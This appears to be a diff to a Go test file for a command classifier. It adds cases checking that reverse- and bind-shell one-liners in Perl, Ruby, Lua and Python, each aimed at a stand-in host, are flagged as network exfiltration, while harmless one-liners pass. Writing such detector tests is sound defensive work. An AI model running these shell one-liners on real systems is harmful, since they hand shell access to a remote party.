@@ -281,3 +281,25 @@ func TestCommonListGaps(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestPeerShellsInCode: reverse and bind shells written in an
+// interpreter's one-line program, in the forms the reverse-shell cheat
+// sheets use: a versioned interpreter name, code attached to its -e, a
+// shell call given what the socket received, code run from a string by
+// exec. Each hands a shell to a network peer (network-exfiltration).
+func TestPeerShellsInCode(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,"example.test:9");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'`, NetworkExfiltration},
+		{`ruby -rsocket -e'f=TCPSocket.open("example.test",9).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'`, NetworkExfiltration},
+		{`lua5.3 -e "local s=require('socket');local t=s.tcp();t:connect('example.test',9);os.execute('/bin/sh -i <&3 >&3 2>&3')"`, NetworkExfiltration},
+		{`python3 -c 'exec("""import socket as s,subprocess as sp;k=s.socket();k.bind(("0.0.0.0",9));k.listen(1);c,a=k.accept();d=c.recv(99).decode();p=sp.Popen(d,shell=True,stdout=sp.PIPE);c.sendall(p.stdout.read())""")'`, NetworkExfiltration},
+		{`perl -e 'print "hello\n"'`, ""},
+		{`ruby -e'puts 1+1'`, ""},
+		{`python3 -c 'exec("print(1)")'`, ""},
+		{`lua5.3 -e "print(os.time())"`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
